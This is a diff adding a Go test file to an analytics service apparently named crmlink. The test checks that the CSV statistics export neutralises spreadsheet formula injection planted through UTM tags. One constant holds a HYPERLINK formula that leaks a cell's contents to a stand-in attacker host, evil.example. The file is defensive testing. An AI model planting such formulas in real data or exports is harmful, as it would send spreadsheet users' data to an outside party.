@@ -1,0 +1,65 @@
+package http_test
+
+import (
+	"context"
+	"encoding/csv"
+	"net/http"
+	"net/url"
+	"strings"
+	"testing"
+
+	"github.com/crmlink/crmlink"
+	crmhttp "github.com/crmlink/crmlink/http"
+)
+
+const hyperlink = `=HYPERLINK("http://evil.example/?leak="&A1,"Click")`
+
+// TestCSVExportNeutral: a UTM tag planted by a hit to /collect comes out
+// of /stat/v1/data.csv as text a spreadsheet does not run, and the
+// numbers beside it stay numbers.
+func TestCSVExportNeutral(t *testing.T) {
+	f := newCollectFixture(t)
+	ctx := context.Background()
+	landing := "https://shop.example/?utm_source=" + url.QueryEscape(hyperlink) + "&utm_medium=social"
+	for i, cid := range []string{"1772362800123456789", "1772362800987654321"} {
+		hit := map[string]any{"cid": cid, "t": "pv", "url": landing, "ref": ""}
+		if i == 1 {
+			hit["url"] = "https://shop.example/?utm_source=-1%2B1&utm_medium=social"
+		}
+		if code := f.hit(t, chromeUA, hit); code != http.StatusNoContent {
+			t.Fatalf("hit: %d", code)
+		}
+	}
+	if err := f.store.SyncHits(ctx); err != nil {
+		t.Fatal(err)
+	}
+	secret := crmhttp.NewTokenSecret()
+	if err := f.store.CreateToken(ctx, &crmlink.Token{Hash: crmhttp.HashToken(secret), CounterID: f.counter.ID, Scope: crmlink.ScopeRead}); err != nil {
+		t.Fatal(err)
+	}
+	req, _ := http.NewRequest("GET", f.srv.URL+"/stat/v1/data.csv?ids="+f.counter.ID.String()+
+		"&date1=2026-03-01&date2=2026-03-01&dimensions=ym:s:lastUTMSource&metrics=ym:s:visits&sort=ym:s:lastUTMSource", nil)
+	req.Header.Set("Authorization", "OAuth "+secret)
+	resp, err := http.DefaultClient.Do(req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer resp.Body.Close()
+	if resp.StatusCode != 200 {
+		t.Fatalf("data.csv: %d", resp.StatusCode)
+	}
+	recs, err := csv.NewReader(resp.Body).ReadAll()
+	if err != nil {
+		t.Fatalf("not CSV: %v", err)
+	}
+	want := [][]string{{"ym:s:lastUTMSource", "ym:s:visits"}, {"Total and averages", "2"},
+		{"'-1+1", "1"}, {"'" + hyperlink, "1"}}
+	if len(recs) != len(want) {
+		t.Fatalf("got %q, want %q", recs, want)
+	}
+	for i := range want {
+		if strings.Join(recs[i], "|") != strings.Join(want[i], "|") {
+			t.Errorf("line %d: %q, want %q", i+1, recs[i], want[i])
+		}
+	}
+}
